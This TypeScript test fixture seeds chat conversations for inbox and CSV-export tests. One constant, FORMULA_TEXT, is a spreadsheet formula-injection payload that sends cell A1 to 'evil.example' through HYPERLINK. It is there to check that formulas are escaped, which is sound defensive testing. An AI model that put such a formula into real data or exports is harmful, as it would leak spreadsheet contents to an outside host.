// Conversations for inbox and export tests, written through the real chat storage functions
// (acceptMessage, storeAnswer, recordSentiment, giveFeedback), as a chat turn would.
import { acceptMessage } from '@/services/chat/accept-message';
import { giveFeedback } from '@/services/chat/give-feedback';
import { recordSentiment } from '@/services/chat/record-sentiment';
import type { SentimentScore } from '@/services/chat/score-message-sentiment';
import { setConversationStatus } from '@/services/chat/set-conversation-status';
import { storeAnswer, type AnswerIntent } from '@/services/chat/store-answer';

export const sentiment = (label: SentimentScore['label'], negative: number): SentimentScore => ({
  label,
  score: label === 'negative' ? negative : 1 - negative,
  scores: { negative, neutral: (1 - negative) / 2, positive: (1 - negative) / 2 },
});

/** One visitor message and its answer, with a sentiment when given. */
export async function chatTurn(
  workspaceId: string,
  text: string,
  opts: { conversationId?: string; userId?: string; intent?: AnswerIntent; sentiment?: SentimentScore; handoff?: boolean; answer?: string } = {},
) {
  const accepted = await acceptMessage(workspaceId, { conversationId: opts.conversationId, text, userId: opts.userId, userVerified: false });
  const intent = opts.intent ?? 'answer';
  await storeAnswer({
    workspaceId,
    conversationId: accepted.conversationId,
    messageId: accepted.answerId,
    seq: accepted.seq + 1,
    text: opts.answer ?? (intent === 'unknown' ? "I don't know" : 'An answer'),
    answered: intent !== 'unknown',
    intent,
    method: 'extractive',
    latencyMs: 5,
    confidence: 0.5,
    citations: [],
    products: [],
    handoffRequested: !!opts.handoff,
  });
  if (opts.sentiment) {
    const earlier = accepted.history.filter((h) => h.role === 'visitor').map((h) => ({ label: h.sentiment, negative: h.negative }));
    await recordSentiment(workspaceId, accepted.conversationId, accepted.messageId, opts.sentiment, earlier);
  }
  return accepted;
}

/** Texts a spreadsheet would run as formulas, and one that needs CSV quoting. */
export const FORMULA_TEXT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
export const QUOTED_TEXT = 'Hello, "team"\nsecond line';

/**
 * Five conversations: calm (positive, thumbs up), angry (turns negative: needs a person, thumbs
 * down), handoff (asked for a person), formula (a visitor typing spreadsheet formulas; user
 * u-formula), resolved (negative, then resolved).
 */
export async function seedInbox(workspaceId: string) {
  const calm = (await chatTurn(workspaceId, 'How long does shipping take?', { sentiment: sentiment('positive', 0.05) })).conversationId;
  await giveFeedback(workspaceId, calm, { rating: 'up' });
  const angry = (await chatTurn(workspaceId, 'My parcel is late', { sentiment: sentiment('negative', 0.6) })).conversationId;
  await chatTurn(workspaceId, 'This is ridiculous, still nothing', { conversationId: angry, sentiment: sentiment('negative', 0.7) });
  await giveFeedback(workspaceId, angry, { rating: 'down' });
  const handoff = (await chatTurn(workspaceId, 'talk to a human', { intent: 'handoff', handoff: true })).conversationId;
  const formula = (await chatTurn(workspaceId, FORMULA_TEXT, { userId: 'u-formula', sentiment: sentiment('neutral', 0.2) })).conversationId;
  await chatTurn(workspaceId, QUOTED_TEXT, { conversationId: formula, sentiment: sentiment('neutral', 0.25) });
  await chatTurn(workspaceId, '+1 555 0100 or @me', { conversationId: formula });
  const resolved = (await chatTurn(workspaceId, 'Worst service ever', { sentiment: sentiment('negative', 0.95) })).conversationId;
  await setConversationStatus(workspaceId, resolved, 'resolved');
  return { calm, angry, handoff, formula, resolved };
}
